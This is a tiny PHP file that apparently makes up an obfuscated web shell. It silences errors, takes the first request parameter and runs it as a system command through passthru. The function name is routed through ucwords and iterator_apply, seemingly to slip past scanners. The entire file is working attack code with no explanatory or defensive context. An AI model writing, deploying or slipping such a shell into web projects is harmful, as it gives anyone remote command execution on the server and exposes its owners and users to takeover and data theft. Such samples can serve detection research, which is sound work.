<?php
error_reporting(0);
$in = current($_REQUEST);
$it = new ArrayIterator(array($in));
iterator_apply($it, ucwords('passthru'), array($in));
